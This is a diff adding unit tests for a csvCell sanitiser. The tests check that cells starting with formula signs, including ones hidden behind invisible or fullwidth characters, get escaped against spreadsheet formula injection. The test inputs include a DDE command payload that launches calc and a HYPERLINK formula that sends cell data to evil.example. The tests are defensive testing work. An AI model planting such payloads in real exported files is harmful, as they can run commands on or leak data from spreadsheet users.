@@ -17,6 +17,40 @@ test.each([
   expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
 });
 
+test('nor any formula behind what a spreadsheet drops or reads as its sign', () => {
+  const before = [
+    '',
+    ' ',
+    '  ',
+    '\t',
+    '\r',
+    '\n',
+    '\r\n',
+    '\u00a0',
+    '\u3000',
+    '\ufeff',
+    '\u200b',
+    '\u200e',
+    '\u2060',
+    '\u0000',
+    '\u001b',
+  ];
+  const signs = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
+  const formulas = ['1+1', "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"Refund")', 'SUM(A1)*1'];
+  const texts = before.flatMap((blank) =>
+    signs.flatMap((sign) => formulas.map((rest) => blank + sign + rest)),
+  );
+  expect(texts.length).toBeGreaterThan(200);
+  expect(texts.filter((text) => !/^"?'/.test(csvCell(text)))).toEqual([]);
+});
+
+test.each(['1+1', 'a=b', '50 %', 'Jan Novák', 'jan@example.cz', 'BTC-CZK', '', ' '])(
+  'the text %j stays as it is',
+  (text) => {
+    expect(csvCell(text)).toBe(text);
+  },
+);
+
 test.each(['-2.5', '0', '12.000000000000000001', '-1'])('the number %s stays a number', (text) => {
   expect(csvCell(text)).toBe(text);
 });
